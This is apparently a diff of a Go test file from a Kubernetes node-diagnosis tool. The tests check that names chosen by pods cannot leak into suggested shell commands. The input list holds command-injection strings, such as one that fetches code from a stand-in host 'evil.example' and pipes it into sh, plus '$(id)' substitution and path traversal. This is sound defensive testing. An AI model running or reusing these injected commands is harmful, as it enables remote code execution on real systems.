@@ -21,6 +21,7 @@ import (
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause/kernel"
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause/runtime"
 	"github.com/nodeagent-io/nodeagent/pkg/evidence"
+	"github.com/nodeagent-io/nodeagent/test/hostile"
 )
 
 // A placeholder is a name in braces. What begins with a quotation mark there is a JSON object of a command.
@@ -160,23 +161,6 @@ func TestPhrasesHaveWordsForAll(t *testing.T) {
 	}
 }
 
-// What others chose cannot break a line, nor pass for a sentence of ours.
-func TestForeignWords(t *testing.T) {
-	for in, want := range map[string]string{
-		"java":                "java",
-		"Web Content":         `"Web Content"`,
-		"x; Remedy: rm":       `"x; Remedy…"`,
-		"a\nb":                `"a\nb"`,
-		"a\xff":               `"a\xff"`,
-		"x. Remedy: kill -9":  `"x. Remedy…"`,
-		"longer-than-that-is": "longer-than…",
-	} {
-		if got := diagnose.Foreign(in, 14); got != want {
-			t.Errorf("%q stands as %s, want %s", in, got, want)
-		}
-	}
-}
-
 // everything is a finding that has every object.
 func everything() diagnose.Finding {
 	process := func(n int, comm string) *diagnose.Process {
@@ -212,7 +196,7 @@ func everything() diagnose.Finding {
 func TestValues(t *testing.T) {
 	full := everything()
 	want := map[string]string{
-		"container": "main", "containers": "main, other", "containerid": "c0ffee", "cgroup": "kubepods/a", "device": "sdb", "logical": "guest/root", "list": "sandboxes", "target": "|/bin/dump",
+		"container": "main", "containers": "main, other", "containerid": "c0ffee", "cgroup": "kubepods/a", "device": "sdb", "logical": "guest/root", "list": "sandboxes", "target": `"|/bin/dump"`,
 		"program": "server", "process": "java (PID 7)", "pid": "7", "starttime": "70", "comm": "worker",
 		"thread": "8", "function": "ep_poll", "syscall": "epoll_wait", "state": "S", "alike": "2", "threads": "2 threads",
 		"also": "tar (PID 14) and at least 1 more", "spared": "tar (PID 14)", "rest": "safe, md127",
@@ -220,19 +204,19 @@ func TestValues(t *testing.T) {
 		"tracer": "gdb (PID 11, of container tools)", "tracerpid": "11", "tracerstarttime": "110", "member": "sh", "memberpid": "12", "memberstate": "S",
 		"parent": "nsenter (PID 13, of pod shop/debug)", "parentpid": "13", "parentstarttime": "130",
 		"image": `"example.com/web:1"`, "hostmount": "/var/data", "mountnumber": "0:50", "mapper": "vg-data",
-		"mountpoint": "/var/data", "point": "/data", "fstype": "nfs4", "protocol": "NFS", "source": "192.0.2.1:/export", "server": "192.0.2.1",
+		"mountpoint": `"/var/data"`, "point": `"/data"`, "fstype": "nfs4", "protocol": "NFS", "source": "192.0.2.1:/export", "server": "192.0.2.1",
 		"volume": "data", "connection": "50", "silence": "requests without an answer, the server acknowledges nothing",
-		"details": "on the node /var/data, source 192.0.2.1:/export, volume data, requests without an answer, " +
+		"details": `on the node "/var/data", source 192.0.2.1:/export, volume data, requests without an answer, ` +
 			"the server acknowledges nothing, for which the kernel's thread kworker/1 waits too",
 		"innertype": "tmpfs", "innersource": "scratch", "innerpoint": "/scratch", "mapped": "sdb", "via": "an open file",
 		"claims": "gpu, nic", "volumes": "data, logs", "plugin": "kubernetes.io/csi", "driver": "disk.example.org", "driverpod": "kube-system/disk-x", "driverstate": "running", "code": "Internal",
 		"signal": "SIGTERM", "handled": "SIGINT", "deadline": "03:00:00 UTC", "since": "03:00:01 UTC", "ended": "03:01:00 UTC", "grace": "1m30s",
 		"until": "04:00:00 UTC", "sleep": "1h0m0s", "port": "8080",
-		"cpulimit": "0.01 processors", "cpuused": "1.25 processors", "memoryhigh": "60 MiB", "limit": "512000000", "size": "488 MiB", "dir": "/var/lib/containerd", "root": "/var/lib/containerd",
+		"cpulimit": "0.01 processors", "cpuused": "1.25 processors", "memoryhigh": "60 MiB", "limit": "512000000", "size": "488 MiB", "dir": `"/var/lib/containerd"`, "root": "/var/lib/containerd",
 		"finalizers": "finalizers example.org/a, example.org/b", "domain": "example.org", "manager": `"kueue"`, "changed": requested.UTC().Format("2006-01-02 15:04:05 UTC"),
 		"daemon": "kube-system/calico-node-x", "error": `"dial \"a\": refused"`, "refuser": `the ValidatingAdmissionPolicy "billing" (binding "all")`,
 		"kernel": "6.1.0", "containerd": "v1.7.20", "issue": "#10589", "fixed": "1.7.22", "views": "main (containerd's record: running, the shim: stopped, the kernel: processes)",
-		"pod": "shop/web-0", "podnamespace": "shop", "podname": "web-0", "node": "node1", "left": "mounts, its cgroup", "layers": "kernel, signal", "partly": "runtime", "unread": "shims", "scarce": "processors",
+		"podnamespace": "shop", "podname": "web-0", "node": "node1", "left": "mounts, its cgroup", "layers": "kernel, signal", "partly": "runtime", "unread": "shims", "scarce": "processors",
 		"runtimes": "io.containerd.kata.v2 (Kata Containers)",
 	}
 	got := map[string]string{}
@@ -415,19 +399,14 @@ func TestWordings(t *testing.T) {
 
 // No name that a pod chose gets into a command: a shell would take it for one.
 func TestNothingForeignInCommands(t *testing.T) {
-	hostile := []string{
+	names := []string{
 		"/data;curl -s evil.example|sh;#", "/data$(id)", "/data`id`", "/data\nid", "/da ta", "/data'", `/data"`, "/data&", "/data>x", "/data*", "/data?x", "/data{a,b}",
 		"/data\\x", "-rf", "/data/../..", "/data\u202e", "/dat\u00e4", "~root", "!x", "#x", "/" + strings.Repeat("x", 400),
 	}
-	for _, name := range hostile {
-		m := &diagnose.Mount{Device: "7:1", Point: name, HostPoint: name, Source: name, Server: name, Volume: name, Type: "ext4"}
-		process := &diagnose.Process{PID: 7, Comm: name, Program: name}
-		f := diagnose.Finding{Container: name, Objects: diagnose.Objects{
-			Process: process, Child: process, Foreground: process, Tracer: process, Member: process, Parent: process,
-			Thread: &diagnose.Thread{TID: 7, Comm: name, Function: name}, Mount: m, Device: name, Cgroup: name, ContainerID: name, CorePattern: name, Image: name, Kernel: name, Containerd: name,
-			Deadline: requested, Since: requested, Ended: requested, GraceSeconds: 30, Signal: "SIGTERM", Handled: "SIGINT", Finalizers: []string{name}, Manager: name, Changed: requested, Plugin: name, Daemon: name, Error: name,
-			Node: name,
-		}}
+	for _, name := range names {
+		f := everything()
+		hostile.Poison(reflect.ValueOf(&f).Elem(), name)
+		f.Objects.Signal = "SIGTERM" // stands in a sentence behind a command, and is ours
 		for _, r := range cause.All() {
 			for _, family := range append(r.Doc.Families, diagnose.Family{}) {
 				for _, variants := range [][]string{nil, {"Paused"}, {diagnose.Stopped}} {
